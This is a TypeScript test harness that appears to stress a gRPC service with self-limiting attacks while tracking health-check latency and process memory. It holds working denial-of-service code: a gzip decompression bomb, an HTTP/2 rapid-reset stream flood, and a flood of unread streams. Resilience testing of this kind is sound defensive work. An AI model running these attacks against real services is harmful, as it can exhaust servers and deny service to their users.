/** Callers that want to use a service up. Each attack ends by itself, and answers how much of it was served. */

import { readFile } from "node:fs/promises";
import { type ClientHttp2Session, connect, constants } from "node:http2";
import { setTimeout as sleep, setImmediate as turn } from "node:timers/promises";
import { Worker } from "node:worker_threads";
import { createGzip } from "node:zlib";

/** As it is on the wire: whether it is compressed, its length, the message. */
export const wireFrame = (body: Uint8Array, compressed = false, length = body.length): Buffer => {
  const head = Buffer.alloc(5);
  head.writeUInt8(compressed ? 1 : 0, 0);
  head.writeUInt32BE(length, 1);
  return Buffer.concat([head, body]);
};

export const grpcHeaders = (path: string, more: Readonly<Record<string, string>> = {}) => ({
  ...{ ":method": "POST", ":path": path, "content-type": "application/grpc", te: "trailers" },
  ...more,
});

export const session = (address: string): ClientHttp2Session =>
  connect(`http://${address}`).on("error", () => undefined);

/** The status of one call of raw bytes: that of gRPC, or why there is none. */
export const rawCall = async (
  to: ClientHttp2Session,
  path: string,
  parts: AsyncIterable<Uint8Array> | Iterable<Uint8Array>,
  more: Readonly<Record<string, string>> = {},
): Promise<string> => {
  const stream = to.request(grpcHeaders(path, more));
  const over = new Promise<string>((resolve) => {
    let status = "";
    const told = (headers: Record<string, unknown>): void => {
      status = String(headers["grpc-status"] ?? status);
    };
    stream
      .on("response", told)
      .on("trailers", told)
      .on("error", () => undefined)
      .on("data", () => undefined);
    stream.on("close", () => resolve(status === "" ? `reset ${stream.rstCode}` : status));
  });
  for await (const part of parts) {
    if (stream.destroyed || stream.closed) break;
    if (!stream.write(part)) await Promise.race([new Promise((resolve) => stream.once("drain", resolve)), over]);
  }
  stream.end();
  return await over;
};

/** 1 GiB of zeros as about 1 MiB of gzip. */
export const bomb = async (bytes: number): Promise<Buffer> => {
  const gzip = createGzip({ level: 9 });
  const parts: Buffer[] = [];
  gzip.on("data", (part: Buffer) => parts.push(part));
  const block = Buffer.alloc(1 << 20);
  for (let left = bytes; left > 0; left -= block.length)
    if (!gzip.write(block.subarray(0, Math.min(left, block.length)))) await new Promise((r) => gzip.once("drain", r));
  gzip.end();
  await new Promise((resolve) => gzip.once("end", resolve));
  return Buffer.concat(parts);
};

/** Requests, and right behind them the word that nobody waits for their answer. */
export const resets = async (address: string, path: string, body: Uint8Array, count: number): Promise<void> => {
  const connections = Array.from({ length: 10 }, () => session(address));
  const inOneWrite = 20;
  await Promise.all(
    connections.map(async (one) => {
      for (let sent = 0; sent < count / connections.length && !one.destroyed; sent += inOneWrite) {
        const streams = Array.from({ length: inOneWrite }, () => {
          const stream = one.request(grpcHeaders(path)).on("error", () => undefined);
          stream.end(wireFrame(body));
          return stream;
        });
        await turn();
        for (const stream of streams) stream.close(constants.NGHTTP2_CANCEL);
        await turn();
      }
    }),
  );
  for (const one of connections) one.destroy();
};

/** Streams that are opened and never read, held until each was taken or refused. Answers how many were refused. */
export const unreadStreams = async (
  address: string,
  path: string,
  body: Uint8Array,
  count: number,
): Promise<number> => {
  const connections = Array.from({ length: Math.ceil(count / 100) }, () => session(address));
  let refused = 0;
  const answers: Promise<void>[] = [];
  for (const [n, one] of connections.entries()) {
    for (let at = 0; at < 100 && n * 100 + at < count && !one.destroyed; at += 1) {
      const stream = one.request(grpcHeaders(path)).on("error", () => undefined);
      answers.push(
        new Promise((resolve) => {
          stream.on("close", resolve);
          stream.on("response", (headers) => {
            if (headers["grpc-status"] !== undefined) refused += 1;
            stream.pause();
            resolve();
          });
        }),
      );
      stream.end(wireFrame(body));
    }
    await turn();
  }
  // A watch of which there is no news says nothing: those that were taken may stay silent.
  await Promise.race([Promise.all(answers), sleep(15_000)]);
  for (const one of connections) one.destroy();
  return refused;
};

/** Asks /healthz again and again from a thread of its own, so that only the service's slowness is seen. */
export const watchHealth = (url: string) => {
  const worker = new Worker(
    `const { parentPort, workerData } = require("node:worker_threads");
     let going = true, longest = 0, asked = 0, wrong = 0;
     parentPort.on("message", () => { going = false; });
     (async () => {
       while (going) {
         const started = performance.now();
         const status = await fetch(workerData).then((r) => r.text().then(() => r.status), () => 0);
         if (status !== 200) wrong += 1;
         longest = Math.max(longest, performance.now() - started);
         asked += 1;
         await new Promise((r) => setTimeout(r, 20));
       }
       parentPort.postMessage({ longest: Math.round(longest), asked, wrong });
       parentPort.close();
     })();`,
    { eval: true, workerData: url },
  );
  return async (): Promise<{ readonly longest: number; readonly asked: number; readonly wrong: number }> => {
    const told = new Promise<{ longest: number; asked: number; wrong: number }>((resolve) =>
      worker.once("message", resolve),
    );
    worker.postMessage("end");
    return await told;
  };
};

export const residentKiB = async (pid: number): Promise<number> => {
  const [, kib = "0"] = /^VmRSS:\s+(\d+) kB$/m.exec(await readFile(`/proc/${pid}/status`, "utf8")) ?? [];
  return Number(kib);
};

/** The least of several looks: what is still to be collected is no leak. */
export const settledKiB = async (pid: number, looks: number): Promise<number> => {
  let least = Number.POSITIVE_INFINITY;
  for (let look = 0; look < looks; look += 1) {
    least = Math.min(least, await residentKiB(pid));
    await sleep(500);
  }
  return least;
};
